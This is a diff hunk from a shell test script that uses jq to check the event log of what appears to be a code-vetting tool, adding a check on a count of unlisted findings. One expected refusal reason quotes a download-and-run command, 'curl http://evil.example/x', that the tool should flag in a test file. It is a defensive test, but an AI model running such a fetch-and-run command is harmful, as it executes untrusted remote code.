@@ -47,6 +47,7 @@ await_sessions "stopped, looking"
 # The log tells of refusals, of what was warned of, and of a file that was another one when it ran; so does the record.
 for line in '.event == "program_refused" and (.why | test("bad.py:2: download-run: curl http://evil.example/x"))' \
 	'.event == "findings" and any(.findings[]; .kind == "not-looked-at")' \
+	'.event == "findings_unlisted" and .count == 350' \
 	'.event == "changed_after_look" and .files == ["good.py"] and .program == "/bin/bash"' \
 	'.event == "changes_unknown" and .program == "/bin/bash" and (.why | test("was ended"))'; do
 	jq -es "any(.[]; $line)" "$T/log" >/dev/null || fail "the log has no line with $line: $(cat "$T/log")"
